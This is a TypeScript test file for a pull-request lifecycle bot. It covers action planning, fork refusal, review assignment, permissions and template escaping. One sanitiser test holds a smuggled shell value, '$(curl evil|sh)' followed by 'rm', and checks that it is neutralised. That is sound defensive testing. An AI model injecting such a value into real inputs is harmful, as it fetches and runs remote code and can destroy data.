import fc from "fast-check";
import { expect, test } from "vitest";
import type { ActionContext } from "../../src/lifecycle/actions/action.ts";
import { ACTIONS, permissionsRequired, planActions } from "../../src/lifecycle/actions/index.ts";
import type { Facts } from "../../src/lifecycle/facts/facts.ts";
import { fill, fillMarkdown, mention, templateProblems } from "../../src/lifecycle/policy/templates.ts";
import { fileName, workflowsStarted } from "../../src/lifecycle/policy/workflows-started.ts";
import { alice, history, opened } from "./builders.ts";
import { policyOf, readExample } from "./policies.ts";

const values = {
  number: "7",
  sha: "aaaaaaa1",
  base: "main",
  stage: "ready-for-qa",
  owner: "alice",
  ticket: "12",
  reason: "label x | **now**",
};

function effects(
  actions: string,
  overrides: Partial<ActionContext> = {},
  facts: Facts = history(opened()),
  passed = false,
) {
  const policy = policyOf(`stages:\n  - { name: a, enter: { draft: false }, on_enter: ${actions} }\n`);
  const [stage] = policy.stages;
  if (stage === undefined) {
    throw new Error("no stage");
  }
  return planActions({ facts, stage, occasion: "enter", at: 1000, values, ...overrides }, passed);
}

test.each([
  [
    '[{ comment: "Task {{ticket}}: over to {{ owner }}" }]',
    { kind: "comment", marker: "a", body: "Task 12: over to @alice" },
  ],
  [
    '[{ start: { workflow: qa.yml, inputs: { pr: "{{number}}", n: 3, b: true, e: "" }, limit: 1 } }]',
    {
      kind: "start",
      key: "100-7-a-enter-1000-qa.yml",
      workflow: "qa.yml",
      inputs: { pr: "7", n: "3", b: "true", e: "" },
      sha: "aaaaaaa1",
      limit: 1,
    },
  ],
  [
    '[{ repository_dispatch: { event_type: ready, payload: { sha: "{{sha}}", why: "{{reason}}" } } }]',
    {
      kind: "repository_dispatch",
      key: "100-7-a-enter-1000-ready",
      eventType: "ready",
      payload: { sha: "aaaaaaa1", why: "label x _ __now__" },
    },
  ],
  ["[{ release: qa }]", { kind: "release", environment: "qa", sha: "aaaaaaa1" }],
  ['[{ request_review: [bob, "@org/testing"] }]', { kind: "request_review", users: ["bob"], teams: ["org/testing"] }],
  ["[{ assign: bob }]", { kind: "assign", users: ["bob"] }],
  ["[{ label: { add: in-qa, remove: [needs-work] } }]", { kind: "label", add: ["in-qa"], remove: ["needs-work"] }],
  ["[{ auto_merge: queue }]", { kind: "auto_merge", method: "queue", sha: "aaaaaaa1" }],
])("%s", (actions, effect) => {
  expect(effects(actions)).toEqual([effect]);
});

test("the key of a start is the same when it is planned again, and another for another entry", () => {
  const key = (at: number) => effects("[{ start: qa.yml }]", { at }).map((effect) => "key" in effect && effect.key);
  expect(key(1)).toEqual(key(1));
  expect(key(1)).not.toEqual(key(2));
});

test.each([[null], [999]])(
  "no workflow is started for a head in another repository (%s), unless the policy says so",
  (repositoryId) => {
    const fork = history(opened({ head: { sha: "fffffff1", ref: "x", repositoryId } }));
    expect(effects("[{ start: qa.yml }]", {}, fork)).toEqual([
      expect.objectContaining({ kind: "refused", action: "start", reason: expect.stringContaining("forks: true") }),
    ]);
    expect(effects("[{ start: { workflow: qa.yml, forks: true } }]", {}, fork)).toEqual([
      expect.objectContaining({ kind: "start", sha: "fffffff1" }),
    ]);
  },
);

test("a stage that is passed on the way only opens its gates", () => {
  const all =
    "[{ comment: hi }, { release: qa }, { start: qa.yml }, { auto_merge: squash }, { label: x }, { assign: bob }, { request_review: bob }, { repository_dispatch: x }]";
  expect(effects(all, {}, history(opened()), true).map((effect) => effect.kind)).toEqual(["release"]);
});

test("the author is not asked to review his own", () => {
  for (const login of ["alice", "ALICE"]) {
    const own = history(opened({ author: { ...alice, login } }));
    expect(effects("[{ request_review: [Alice, bob] }]", {}, own)).toEqual([
      { kind: "request_review", users: ["bob"], teams: [] },
    ]);
  }
});

test("an overdue comment does not overwrite that of the entry", () => {
  const [stage] = readExample("three-bots").stages.slice(1);
  if (stage === undefined) {
    throw new Error("no stage");
  }
  const [effect] = planActions({ facts: history(opened()), stage, occasion: "overdue", at: 1, values });
  expect(effect).toMatchObject({
    kind: "comment",
    marker: "ready-for-qa/overdue",
    body: expect.stringMatching(/^@alice /),
  });
});

test("values are escaped in Markdown, and in inputs keep only what a script may hold", () => {
  expect(fillMarkdown("{{reason}}", values)).toBe("label x \\| \\*\\*now\\*\\*");
  expect(fill("{{reason}}{{ticket}}", values)).toBe("label x _ __now__12");
});

test("no value brings anything into an input that a shell, YAML or Markdown reads", () => {
  expect(fill("{{reason}}", { ...values, reason: "$(curl evil|sh) `x` failed\n; rm" })).toBe(
    "__curl evil_sh_ _x_ failed__ rm",
  );
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 600 }), (reason) => {
      const filled = fill("{{reason}}", { ...values, reason });
      expect(filled).toMatch(/^[\p{L}\p{N} .,:/@#+_-]{0,500}$/u);
    }),
  );
});

test("values are not read as templates again", () => {
  expect(fill("{{reason}}", { ...values, reason: "{{number}} $&" })).toBe("__number__ __");
});

test.each([
  ["alice", "@alice"],
  ["@org/team", "@org/team"],
  ["rex[bot]", "rex\\[bot\\]"],
  ["", ""],
])("owner %s is written as %s", (owner, written) => {
  expect(mention(owner)).toBe(written);
});

test("a name that is not on the list is told, with the one that was meant", () => {
  expect(templateProblems("{{number}} {{titel}} {{ stage }}")).toEqual([
    expect.stringContaining("expected one of {{number}}"),
  ]);
  expect(templateProblems("{{ownr}}")[0]).toContain('did you mean "owner"?');
});

test("what the installation must allow is known from the policy", () => {
  expect(Object.fromEntries(permissionsRequired(readExample("three-bots")))).toEqual({
    actions: { level: "write", actions: ["start"] },
    contents: { level: "write", actions: ["auto_merge"] },
  });
});

test("what the app starts is known from all that a policy has it do, by the names of files", () => {
  const policy = policyOf(`stages:
  - { name: a, enter: { draft: false }, on_enter: [{ start: a.yml }, { comment: x }] }
  - { name: b, enter: { label: x }, on_back: [{ start: b.yml }], max_age: 1d, on_overdue: [{ start: c.yml }] }
`);
  expect([...workflowsStarted(policy)]).toEqual(["a.yml", "b.yml", "c.yml"]);
  expect(Object.fromEntries(permissionsRequired(policy))).toEqual({ actions: { level: "write", actions: ["start"] } });
  expect(["qa.yml", ".github/workflows/qa.yml", "a/b/"].map(fileName)).toEqual(["qa.yml", "qa.yml", ""]);
});

test("every action's examples are read as that action", () => {
  for (const { kind, examples } of Object.values(ACTIONS)) {
    for (const example of examples) {
      expect(effects(`[{ ${example} }]`)).toEqual([expect.objectContaining({ kind })]);
    }
  }
});
